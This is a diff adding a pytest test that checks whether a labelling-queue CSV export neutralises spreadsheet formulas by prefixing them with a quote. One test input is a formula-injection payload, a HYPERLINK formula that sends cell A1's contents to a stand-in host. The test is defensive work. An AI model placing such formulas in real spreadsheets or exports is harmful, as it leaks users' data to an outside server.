@@ -96,3 +96,19 @@ def test_label_studios_export_is_read_back_by_ingest(tmp_path):
     path.write_text(json.dumps({"not": "a list"}))
     with pytest.raises(DataError, match="Label Studio export"):
         read_labelled_file(path, "text", "label", max_file_mb=10)
+
+
+def test_the_queue_csv_shows_a_formula_text_instead_of_running_it(tmp_path):
+    directory = tmp_path / Params().serve.request_log_dir
+    log = RequestLog(directory, "jsonl", texts=True)
+    log.start()
+    texts = ['=HYPERLINK("http://example.invalid/?x="&A1, "see")', "a fine film", "a dull film"]
+    for i, text in enumerate(texts):
+        log.add(f"req-{i}", "3", [text], [{"label": "positive", "prob_positive": 0.55, "prob_negative": 0.45}])
+    wait_for(lambda: len(read_window(directory)[0]) == len(texts), 60, "the request log written")
+    log.close()
+    as_csv = label_queue(tmp_path, Params(), 3, tmp_path / "tasks.csv")
+    written = pd.read_csv(as_csv["output"])["text"].tolist()
+    assert sorted(written) == sorted(["'" + texts[0], texts[1], texts[2]])  # the formula shown, not run
+    as_json = label_queue(tmp_path, Params(), 3, tmp_path / "tasks.json")  # Label Studio's tasks: the text itself
+    assert texts[0] in {t["data"]["text"] for t in json.loads(open(as_json["output"]).read())}
